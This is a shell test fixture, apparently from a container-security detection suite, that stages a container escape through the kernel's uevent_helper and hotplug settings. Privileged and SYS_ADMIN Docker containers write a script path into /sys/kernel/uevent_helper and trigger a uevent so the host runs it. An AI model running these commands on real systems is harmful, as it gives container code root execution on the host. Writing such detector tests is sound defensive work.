# uevent-helper-written: a privileged container names its own program as the helper that the kernel starts for devices.
# shows: a write of uevent_helper that is refused, its words in a shell's and tee's arguments
# outcome: failure: this kernel is built without uevent_helper, so the file cannot be opened; the attempt is the attack
# label: malicious
# expects: [uevent-helper-written]
# allows: [privileged-container, dangerous-capability-added, container-confinement-disabled, host-namespaces-shared, engine-socket-connected, command-executed-in-container, shell-opened-in-container, kernel-parameter-written-in-container]
act() {
    if dev; then
        docker run --rm --privileged alpine:3.19 sh -c '
            host=$(sed -n "s/.*\bupperdir=\([^,]*\).*/\1/p" /proc/mounts | head -1)
            printf "#!/bin/sh\nid >%s/o\n" $host >/e; chmod a+x /e
            echo $host/e >/sys/kernel/uevent_helper; echo change >/sys/class/mem/null/uevent; cat /o'
    else
        docker run --rm --cap-add SYS_ADMIN --security-opt seccomp=unconfined busybox:1.36 sh -c '
            mkdir /s; mount -t sysfs none /s; echo /tmp/h | tee /s/kernel/uevent_helper; sysctl -w kernel.hotplug=/tmp/h'
    fi
    true
}
